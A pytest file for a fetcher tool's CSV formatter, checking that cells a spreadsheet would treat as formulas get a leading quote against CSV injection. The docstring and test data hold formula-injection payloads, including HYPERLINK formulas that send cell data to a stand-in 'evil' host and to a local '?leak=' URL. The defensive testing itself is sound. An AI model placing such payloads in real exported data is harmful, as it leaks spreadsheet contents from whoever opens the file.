"""A csv record's cell that a spreadsheet would read as a formula (s29 t1 1).

A server writes a record's reason phrase and Content-Type, a list from anywhere its URL. Excel,
LibreOffice and Google Sheets evaluate a cell that starts with = + - @ (or a tab or a CR before
one), quoted or not: ``=HYPERLINK("http://evil/?"&A2, "details")`` sends the sheet's other
cells away when clicked. Such a cell gets a ``'`` first, as OWASP's advice on CSV injection has
it; every other cell is the exact data.
"""

from __future__ import annotations

import csv
import io

import pytest

from fetcher.errors import ErrorKind
from fetcher.input.jobs import Job
from fetcher.output.records import CSV_FIELDS, CsvFormatter
from fetcher.results import Result
from tests.conftest import invoke
from tests.servers import FaultServer, respond

FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?"&A2,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def row_of(text: str) -> dict[str, str]:
    (row,) = csv.DictReader(io.StringIO(CsvFormatter().header() + text, newline=""))
    return row


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_reads_as_a_formula_gets_a_quote_first(text: str) -> None:
    result = Result(Job(seq=1, url=text, target=text, line=1, raw=text.encode()))
    result.status, result.reason, result.content_type = 404, text, text
    row = row_of(CsvFormatter()(result))
    assert (row["url"], row["reason"], row["content_type"]) == ("'" + text,) * 3, row


@pytest.mark.parametrize("text", ["Not Found", "a=b", "1-2", "x@y", " =1", "'=1", ""])
def test_every_other_cell_is_the_exact_data(text: str) -> None:
    result = Result(Job(seq=1, url="http://h/a", target="http://h/a", line=1, raw=b"http://h/a"))
    result.status, result.reason = 404, text
    row = row_of(CsvFormatter()(result))
    assert (row["url"], row["reason"]) == ("http://h/a", text), row
    assert list(row) == list(CSV_FIELDS)


def test_a_servers_formula_in_a_results_file_is_not_one(tmp_path) -> None:
    head = (
        b'HTTP/1.1 404 =HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Not Found")\r\n'
        b"Content-Type: @SUM(1+1)\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi"
    )
    results = tmp_path / "r.csv"
    with FaultServer(respond(head)) as server:
        invoke(["-q", "--retries", "0", "--format", "csv", "--results", str(results),
                server.url("/f")])  # fmt: skip
    with results.open(newline="") as stream:
        (row,) = csv.DictReader(stream)
    assert row["reason"] == '\'=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Not Found")', row
    assert row["content_type"] == "'@SUM(1+1)", row
    assert row["error_message"].startswith("404 "), row


def test_the_cells_fetcher_writes_itself_are_exact() -> None:
    """'--max-time of 2 s reached' and a path under -o +dl came back with a ' first (s29 r2
    6): only what a server or a list wrote is quoted."""
    result = Result(Job(seq=1, url="http://h/a", target="http://h/a", line=1, raw=b"http://h/a"))
    result.error_kind, result.error_message = ErrorKind.MAX_TIME, "--max-time of 2 s reached"
    result.path = "+dl/h/a"
    row = row_of(CsvFormatter()(result))
    assert (row["error_message"], row["path"]) == ("--max-time of 2 s reached", "+dl/h/a"), row
